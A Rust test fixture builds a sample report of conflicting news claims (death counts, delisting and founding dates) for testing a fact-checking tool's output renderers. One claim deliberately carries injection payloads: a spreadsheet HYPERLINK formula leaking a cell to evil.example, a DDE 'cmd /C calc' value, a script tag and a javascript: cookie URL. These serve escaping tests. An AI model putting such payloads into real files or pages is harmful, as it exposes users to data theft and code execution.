//! A hand-built report for the output tests: claims and findings written here, in our own
//! words, so the renderers are tested without depending on extraction. It has conflicting
//! counts, a day against a month against a year, an accepted finding, a claim without a date,
//! and hostile text (formulas, HTML, Markdown, quotes and newlines) in quotes, sources and urls.

#![allow(dead_code)]

use chrono::NaiveDate;
use factline::claims::{Attribute, Claim, Value};
use factline::engine::{Finding, Severity, Side, Status};
use factline::error::{Diagnostic, Location};
use factline::temporal::Granularity;
use factline::Report;

pub fn day(y: i32, m: u32, d: u32) -> NaiveDate {
    NaiveDate::from_ymd_opt(y, m, d).unwrap_or(NaiveDate::MIN)
}

pub struct C {
    pub event: &'static str,
    pub kind: &'static str,
    pub source: &'static str,
    pub doc: &'static str,
    pub line: usize,
    pub published: NaiveDate,
    pub quote: &'static str,
}

pub fn count(c: &C, attribute: Attribute, low: f64, high: Option<f64>, text: &str) -> Claim {
    Claim {
        event: c.event.into(),
        kind: c.kind.into(),
        attribute,
        value: Value::Count {
            low,
            high,
            best: low,
        },
        text: text.into(),
        qualifier: None,
        place: None,
        as_of: None,
        quote: c.quote.into(),
        doc: c.doc.into(),
        source: c.source.into(),
        url: Some(format!(
            "https://{}.example/story",
            c.source.to_lowercase().replace(' ', "-")
        )),
        published: Some(c.published),
        line: c.line,
        attribution: None,
        via: None,
        confidence: 0.9,
    }
}

pub fn date(
    c: &C,
    value: &str,
    from: NaiveDate,
    to: NaiveDate,
    g: Granularity,
    text: &str,
) -> Claim {
    Claim {
        attribute: Attribute::Date,
        value: Value::Date {
            value: value.into(),
            earliest: from,
            latest: to,
            granularity: g,
            modifier: None,
        },
        ..count(c, Attribute::Date, 0.0, None, text)
    }
}

pub fn finding(
    id: &str,
    rule: &str,
    severity: Severity,
    message: &str,
    claims: Vec<Claim>,
) -> Finding {
    let first = claims.first().cloned();
    let sides = sides(&claims);
    Finding {
        id: id.into(),
        rule: rule.into(),
        severity,
        event: first.as_ref().map(|c| c.event.clone()).unwrap_or_default(),
        attribute: first.map(|c| c.attribute).unwrap_or(Attribute::Date),
        message: message.into(),
        claims,
        sides,
        conflicts: Vec::new(),
        why: format!("{rule}: these values cannot all be true"),
        status: Status::Open,
    }
}

/// Sides as the engine builds them: one per distinct value, lowest first, labelled a, b, c.
fn sides(claims: &[Claim]) -> Vec<Side> {
    let key = |c: &Claim| -> (String, String) {
        match &c.value {
            Value::Count { low, high, .. } => (
                format!("{low:020.3}"),
                match high {
                    Some(h) if h == low => format!("{low}"),
                    Some(h) => format!("{low}-{h}"),
                    None => format!(">= {low}"),
                },
            ),
            Value::Date {
                value, earliest, ..
            } => (earliest.to_string(), value.clone()),
        }
    };
    let mut values: Vec<(String, String)> = claims.iter().map(key).collect();
    values.sort();
    values.dedup();
    values
        .into_iter()
        .zip(b'a'..)
        .map(|((_, value), label)| {
            let mine: Vec<usize> = (0..claims.len())
                .filter(|&i| claims.get(i).is_some_and(|c| key(c).1 == value))
                .collect();
            let on_side = || mine.iter().filter_map(|&i| claims.get(i));
            let mut sources: Vec<String> = on_side().map(|c| c.source.clone()).collect();
            sources.sort();
            sources.dedup();
            let mut attributions: Vec<String> = on_side()
                .map(|c| {
                    c.attribution
                        .clone()
                        .unwrap_or_else(|| "unattributed".into())
                })
                .collect();
            attributions.sort();
            attributions.dedup();
            Side {
                label: char::from(label).to_string(),
                value,
                sources,
                attributions,
                claims: mine,
            }
        })
        .collect()
}

/// The sample report every output test renders.
pub fn sample_report() -> Report {
    let north = C {
        event: "camp-liberty-mortar-2013",
        kind: "attack",
        source: "Northern Herald",
        doc: "data/northern-herald.txt",
        line: 7,
        published: day(2013, 2, 10),
        quote: "Mortar rounds struck the camp on Saturday morning, leaving seven people dead, officials said.",
    };
    let bay = C {
        source: "Bay Courier",
        doc: "data/bay-courier.txt",
        line: 5,
        published: day(2013, 2, 11),
        quote: "Six residents died when shells hit the compound on 9 February, the group's spokesman said.",
        ..north
    };
    let hostile = C {
        event: "camp-liberty-mortar-2013",
        kind: "attack",
        source: "Paste | Bin <b>",
        doc: "data/odd name, \"quoted\".txt",
        line: 12,
        published: day(2013, 2, 12),
        quote: "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"six dead\") <script>alert('x')</script> | `rm` **bold**\nsecond line, \"quoted\"",
    };
    let ledger = C {
        event: "mek-delisting",
        kind: "delisting",
        source: "Harbor Ledger",
        doc: "data/harbor-ledger.txt",
        line: 9,
        published: day(2013, 9, 20),
        quote: "Washington took the group off its terror list nearly a year ago.",
    };
    let review = C {
        source: "Counterpoint Review",
        doc: "data/counterpoint.txt",
        line: 3,
        published: day(2012, 11, 2),
        quote: "The State Department removed the designation in September 2011.",
        ..ledger
    };
    let wire = C {
        source: "Continental Wire",
        doc: "data/wire.jsonl#2",
        line: 2,
        published: day(2012, 9, 28),
        quote: "@SUM(1+1) The delisting was announced on Friday, 28 September 2012.",
        ..ledger
    };
    let digest = C {
        event: "mek-founding",
        kind: "founding",
        source: "Iran Watch Digest",
        doc: "data/digest.txt",
        line: 20,
        published: day(2014, 1, 5),
        quote: "Students founded the movement in 1965.",
    };
    let desk = C {
        source: "Global Affairs Desk",
        doc: "data/desk.html",
        line: 41,
        published: day(2013, 5, 1),
        quote:
            "The organization traces its origins to the early 1960s, when it was set up in 1963.",
        ..digest
    };

    let mut seven = count(
        &north,
        Attribute::Killed,
        7.0,
        Some(7.0),
        "seven people dead",
    );
    seven.as_of = Some(day(2013, 2, 9));
    seven.attribution = Some("officials".into());
    let mut six = count(
        &bay,
        Attribute::Killed,
        6.0,
        Some(6.0),
        "Six residents died",
    );
    six.as_of = Some(day(2013, 2, 9));
    six.attribution = Some("the group's spokesman".into());
    six.via = Some("Levant Wire".into());
    let mut six_hostile = count(&hostile, Attribute::Killed, 6.0, None, "-6 or more");
    six_hostile.as_of = Some(day(2013, 2, 9));
    six_hostile.attribution = Some("+cmd|' /C calc'!A0".into());
    six_hostile.url = Some("javascript:alert(document.cookie)".into());
    let attack_day = date(
        &bay,
        "2013-02-09",
        day(2013, 2, 9),
        day(2013, 2, 9),
        Granularity::Day,
        "9 February",
    );
    let attack_saturday = date(
        &north,
        "2013-02-09",
        day(2013, 2, 9),
        day(2013, 2, 9),
        Granularity::Day,
        "on Saturday",
    );
    // A sentence of its own, with no date: the one claim no timeline can place.
    let mut injured_unknown = count(&north, Attribute::Injured, 24.0, Some(99.0), "dozens");
    injured_unknown.line = 8;
    injured_unknown.quote = "Dozens more were taken to hospitals in the city.".into();

    let nearly = date(
        &ledger,
        "2012",
        day(2012, 1, 1),
        day(2012, 12, 31),
        Granularity::Year,
        "nearly a year ago",
    );
    let sept_2011 = date(
        &review,
        "2011-09",
        day(2011, 9, 1),
        day(2011, 9, 30),
        Granularity::Month,
        "September 2011",
    );
    let friday = date(
        &wire,
        "2012-09-28",
        day(2012, 9, 28),
        day(2012, 9, 28),
        Granularity::Day,
        "Friday, 28 September 2012",
    );

    let y1965 = date(
        &digest,
        "1965",
        day(1965, 1, 1),
        day(1965, 12, 31),
        Granularity::Year,
        "in 1965",
    );
    let y1963 = date(
        &desk,
        "1963",
        day(1963, 1, 1),
        day(1963, 12, 31),
        Granularity::Year,
        "in 1963",
    );
    let sixties = date(
        &desk,
        "196",
        day(1960, 1, 1),
        day(1969, 12, 31),
        Granularity::Decade,
        "the early 1960s",
    );

    let claims = vec![
        seven.clone(),
        six.clone(),
        six_hostile.clone(),
        attack_day,
        attack_saturday,
        injured_unknown,
        nearly.clone(),
        sept_2011.clone(),
        friday.clone(),
        y1965.clone(),
        y1963.clone(),
        sixties,
    ];
    let mut founding = finding(
        "f0c1d2e3a4b5c6d7",
        "date-disagreement",
        Severity::Medium,
        "Iran Watch Digest dates the founding to 1965; Global Affairs Desk to 1963",
        vec![y1965, y1963],
    );
    founding.status = Status::Accepted {
        reason: "Sources count from different meetings; see the editor's note".into(),
        reviewer: Some("desk@newsroom.example".into()),
        date: Some("2014-02-01".into()),
    };
    Report {
        documents: 7,
        claims,
        findings: vec![
            finding(
                "9a8b7c6d5e4f3a2b",
                "count-disagreement",
                Severity::High,
                "Northern Herald says 7 killed; Bay Courier says 6 <b>|</b>",
                vec![seven, six, six_hostile],
            ),
            finding(
                "1122334455667788",
                "date-disagreement",
                Severity::High,
                "Counterpoint Review dates the delisting to 2011-09; Harbor Ledger and Continental Wire to 2012",
                vec![sept_2011, nearly, friday],
            ),
            founding,
        ],
        diagnostics: vec![Diagnostic::warning(
            Location::new("data/broken.txt", 3, 0),
            "invalid UTF-8 decoded lossily <here>",
        )],
    }
}
